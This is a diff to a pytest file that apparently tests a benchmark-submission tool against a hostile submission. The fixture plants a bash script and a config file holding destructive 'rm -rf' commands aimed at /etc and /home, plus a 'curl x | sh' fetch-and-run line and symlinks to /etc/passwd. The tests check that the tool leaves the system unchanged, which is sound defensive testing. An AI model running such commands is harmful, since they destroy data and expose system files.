@@ -6,13 +6,13 @@ import json
 import os
 from pathlib import Path
 
-import published
 import pytest
 import yaml
-from support import config_text
 
+import published
 from podium import cli, config, files, manifest
 from podium import plan as ours
+from support import config_text
 
 EVIL = """#!/usr/bin/env bash
 rm -rf {target} "$(pwd)" "$DATADIR" /etc/* 2>/dev/null
@@ -39,14 +39,14 @@ def hostile(tmp_path, monkeypatch):
     target.mkdir()
     (target / "mine").write_text("mine")
     root = tmp_path / "round"
-    submitter = published.code(root, "plain", seconds=0.5)
-    logs = published.results(submitter, 0.5)
+    submitter = published.code(root, "plain")
+    logs = published.results(submitter)
     home = submitter / "benchmarks" / "resnet" / "implementations" / "one"
     server = socket.create_server(("127.0.0.1", 0))
     server.settimeout(0)
     port = server.getsockname()[1]
     (home / "run_and_time.sh").write_text(EVIL.replace("{target}", str(target)).replace("{port}", str(port)))
-    (home / "configs" / "one.env").write_text(f"SECONDS_TO_TRAIN=0.5\nrm -rf {target} ../.. /home\ncurl x | sh\n")
+    (home / "configs" / "one.env").write_text(f"MILLISECONDS=600000\nrm -rf {target} ../.. /home\ncurl x | sh\n")
     (home / "link").symlink_to("/etc")
     (home / "configs" / "out.env").symlink_to("/etc/passwd")
     with (logs / "result_9.txt").open("wb") as file:
@@ -102,7 +102,7 @@ def asked(place: Path, *words: str) -> list[str]:
 def test_listing_and_planning_change_nothing_and_name_each_trouble(hostile, capsys):
     kept = [hostile / name for name in ("target", "round", "work/data")]
     before = state(*kept)
-    top = sorted(os.listdir("/"))
+    top = sorted(map(str, Path("/").iterdir()))
     assert cli.main(asked(hostile, "--list", "--json")) == 0
     listed = json.loads(capsys.readouterr().out)
     trouble = " ".join(item for row in listed["results"] for item in row["trouble"])
@@ -113,7 +113,7 @@ def test_listing_and_planning_change_nothing_and_name_each_trouble(hostile, caps
     assert "private base" in made["private", "one"]["refused"]
     assert any("aarch64" in item for item in made["other", "one"]["lacks"])
     assert made["acme", "one"]["published"] == 5
-    assert (state(*kept), sorted(os.listdir("/"))) == (before, top)
+    assert (state(*kept), sorted(map(str, Path("/").iterdir()))) == (before, top)
 
 
 def test_running_it_changes_nothing_but_its_own_logs(hostile, capsys):
